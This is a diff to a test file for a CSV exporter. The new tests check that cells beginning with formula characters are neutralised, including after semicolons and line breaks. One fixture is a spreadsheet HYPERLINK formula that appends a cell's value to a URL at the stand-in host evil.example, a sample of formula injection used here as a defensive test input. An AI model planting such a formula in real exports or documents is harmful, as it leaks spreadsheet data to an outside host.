@@ -75,14 +75,30 @@ describe("CSV", () => {
   });
 
   it("has no cell that begins as a formula does", () => {
-    const texts = fc.string({ unit: fc.constantFrom(..."=+-@'\t\r\n＝ab") });
+    const texts = fc.string({ unit: fc.constantFrom(..."=+-@'\t\r\n＝ab; |\"") });
     fc.assert(
       fc.property(texts, (text) => {
         expect(guardCell(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+        expect(guardCell(text)).not.toMatch(/[;|\t\r\n][ "]*[=+\-@＝＋－＠]/);
         expect(unguardCell(guardCell(text))).toBe(text);
       }),
     );
   });
+
+  it.each([
+    ["a separator", 'x;=HYPERLINK("https://evil.example/?"&A1,"Details");', []],
+    ["a line end", "x\n=1+1;\n\t-2", []],
+    ["quotes, which end a cell that they begin", 'x;"=1+1"', []],
+    ["one that was guarded already", "x;'=1+1;''@y", []],
+    ["a tag", "x", ["a", "=1+1", "b;-2"]],
+  ])(
+    "has none either where a spreadsheet splits it at semicolons, whose quotes are inside its cells: %s",
+    (_, notes, tags) => {
+      const file = exportCsv([{ ...apple, notes, tags }], { withBom: false });
+      expect(file.split(/[;\r\n]/).filter((part) => /^[\s"]*[=+\-@＝＋－＠]/.test(part))).toEqual([]);
+      expect(imported(file)).toEqual([draftOf({ ...apple, notes, tags })]);
+    },
+  );
 });
 
 it("JSON comes back in unchanged", () => {
